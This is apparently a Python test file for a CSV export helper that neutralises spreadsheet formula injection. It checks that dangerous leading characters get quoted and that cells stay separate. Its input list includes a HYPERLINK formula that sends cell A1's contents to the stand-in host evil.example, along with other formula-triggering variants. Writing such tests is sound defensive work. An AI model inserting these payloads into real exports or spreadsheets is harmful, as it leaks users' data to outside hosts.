"""CSV that a spreadsheet shows and does not run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitr.entrypoints.csv_rows import csv_row, defused

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Demo BV")',
    "+32 2 123 45 67",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\ufeff=1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_what_a_spreadsheet_would_run_is_a_text(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Demo BV", "1+1", "O'Neill", "a=b", "2026-11-22T12:00:00.000Z"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert defused(text) == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])) | st.none(), min_size=2, max_size=4))
def test_every_cell_is_read_back_alone(cells: list[str | None]) -> None:
    """Quotes, commas and line breaks of a name do not make another cell or row."""
    line = csv_row(cells)
    assert line.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(line.decode("utf-8"), newline="")))
    assert rows == [[defused(cell or "") for cell in cells]]
